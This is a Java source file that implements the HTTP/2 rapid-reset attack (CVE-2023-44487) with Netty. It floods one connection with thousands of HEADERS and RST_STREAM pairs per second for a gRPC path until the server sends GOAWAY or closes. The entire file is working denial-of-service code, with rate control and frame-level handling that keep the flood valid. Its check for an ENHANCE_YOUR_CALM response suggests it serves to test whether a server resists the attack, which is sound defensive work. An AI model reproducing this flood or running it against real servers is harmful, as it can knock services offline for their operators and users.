package dev.fanout.deploy;

import io.netty.bootstrap.Bootstrap;
import io.netty.buffer.ByteBuf;
import io.netty.buffer.Unpooled;
import io.netty.channel.Channel;
import io.netty.channel.ChannelHandlerContext;
import io.netty.channel.ChannelInitializer;
import io.netty.channel.EventLoopGroup;
import io.netty.channel.nio.NioEventLoopGroup;
import io.netty.channel.socket.SocketChannel;
import io.netty.channel.socket.nio.NioSocketChannel;
import io.netty.handler.codec.ByteToMessageDecoder;
import io.netty.handler.codec.http2.DefaultHttp2FrameReader;
import io.netty.handler.codec.http2.DefaultHttp2FrameWriter;
import io.netty.handler.codec.http2.DefaultHttp2Headers;
import io.netty.handler.codec.http2.Http2CodecUtil;
import io.netty.handler.codec.http2.Http2Error;
import io.netty.handler.codec.http2.Http2FrameAdapter;
import io.netty.handler.codec.http2.Http2Headers;
import io.netty.handler.codec.http2.Http2Settings;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.ExecutionException;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.TimeoutException;
import java.util.concurrent.locks.LockSupport;

/**
 * The HTTP/2 rapid-reset attack (CVE-2023-44487) as a raw client does it, frame by frame with Netty's
 * HTTP/2 frame writer and no stream bookkeeping: on one connection, a gRPC call's HEADERS immediately
 * followed by its RST_STREAM, thousands of pairs per second, until the server answers GOAWAY or
 * closes the connection.
 */
final class RapidResetFlood implements AutoCloseable {

    /**
     * What the server did: its GOAWAY (error code, debug text), or none, and whether it closed the
     * connection; how many HEADERS+RST pairs had been sent when its GOAWAY arrived, and how fast.
     */
    record Result(long goAwayError, String debug, boolean closedByServer, int pairsSent, double pairsPerSecond) {
        boolean enhanceYourCalm() {
            return goAwayError == Http2Error.ENHANCE_YOUR_CALM.code();
        }
    }

    /** Pairs are written in batches this far apart, so the flood keeps a steady rate the server can read as it comes. */
    private static final long TICK_NANOS = TimeUnit.MILLISECONDS.toNanos(10);

    private final EventLoopGroup group = new NioEventLoopGroup(1);
    private final DefaultHttp2FrameWriter writer = new DefaultHttp2FrameWriter();
    private final CompletableFuture<GoAway> goAway = new CompletableFuture<>();
    private final String host;
    private final int port;

    RapidResetFlood(String host, int port) {
        this.host = host;
        this.port = port;
    }

    private record GoAway(long error, String debug) {
    }

    /**
     * Sends up to {@code maxPairs} HEADERS+RST_STREAM pairs for {@code path} at {@code pairsPerSecond},
     * stopping at the server's GOAWAY or close.
     */
    Result flood(String path, int pairsPerSecond, int maxPairs) throws Exception {
        Channel channel = new Bootstrap().group(group).channel(NioSocketChannel.class).handler(new ChannelInitializer<SocketChannel>() {
            @Override
            protected void initChannel(SocketChannel ch) {
                ch.pipeline().addLast(new FrameReading());
            }
        }).connect(host, port).sync().channel();
        Http2Headers headers = new DefaultHttp2Headers().method("POST").scheme("http").path(path).authority(host + ":" + port)
                .add("content-type", "application/grpc").add("te", "trailers");
        ChannelHandlerContext ctx = channel.pipeline().firstContext();
        // Every frame is written on the channel's event loop, where the SETTINGS ack is written too: the
        // frame writer writes a frame as several buffers, and from another thread each buffer is a task of
        // its own, so an ack could land inside a HEADERS frame and the server would rightly see garbage.
        onLoop(channel, () -> {
            ctx.write(Unpooled.wrappedBuffer(Http2CodecUtil.connectionPrefaceBuf()));
            writer.writeSettings(ctx, new Http2Settings(), ctx.newPromise());
            ctx.flush();
        });
        int batch = (int) (pairsPerSecond * TICK_NANOS / TimeUnit.SECONDS.toNanos(1));
        long started = System.nanoTime();
        long next = started;
        int sent = 0;
        while (sent < maxPairs && !goAway.isDone() && channel.isActive()) {
            LockSupport.parkNanos(next - System.nanoTime());
            next += TICK_NANOS;
            int first = 1 + 2 * sent;
            int pairs = Math.min(batch, maxPairs - sent);
            onLoop(channel, () -> {
                for (int i = 0, stream = first; i < pairs; i++, stream += 2) {
                    writer.writeHeaders(ctx, stream, headers, 0, false, ctx.newPromise());
                    writer.writeRstStream(ctx, stream, Http2Error.CANCEL.code(), ctx.newPromise());
                }
                ctx.flush();
            });
            sent += pairs;
        }
        double seconds = (System.nanoTime() - started) / 1e9;
        GoAway away = goAwayOrNone();
        boolean closed = channel.closeFuture().await(10, TimeUnit.SECONDS);
        channel.close().await(5, TimeUnit.SECONDS);
        return new Result(away.error(), away.debug(), closed, sent, sent / seconds);
    }

    private static void onLoop(Channel channel, Runnable writes) throws Exception {
        channel.eventLoop().submit(writes).get(10, TimeUnit.SECONDS);
    }

    private GoAway goAwayOrNone() throws InterruptedException {
        try {
            return goAway.get(10, TimeUnit.SECONDS);
        } catch (ExecutionException | TimeoutException none) {
            return new GoAway(-1, "no GOAWAY");
        }
    }

    /** Reads the server's frames: acknowledges its SETTINGS, keeps its GOAWAY; nothing else matters to the attack. */
    private final class FrameReading extends ByteToMessageDecoder {
        private final DefaultHttp2FrameReader reader = new DefaultHttp2FrameReader();
        private final Http2FrameAdapter listener = new Http2FrameAdapter() {
            @Override
            public void onSettingsRead(ChannelHandlerContext ctx, Http2Settings settings) {
                writer.writeSettingsAck(ctx, ctx.newPromise());
                ctx.flush();
            }

            @Override
            public void onGoAwayRead(ChannelHandlerContext ctx, int lastStreamId, long errorCode, ByteBuf debugData) {
                goAway.complete(new GoAway(errorCode, debugData.toString(StandardCharsets.UTF_8)));
            }
        };

        @Override
        protected void decode(ChannelHandlerContext ctx, ByteBuf in, List<Object> out) throws Exception {
            reader.readFrame(ctx, in, listener);
        }
    }

    @Override
    public void close() {
        group.shutdownGracefully(0, 5, TimeUnit.SECONDS).syncUninterruptibly();
    }
}
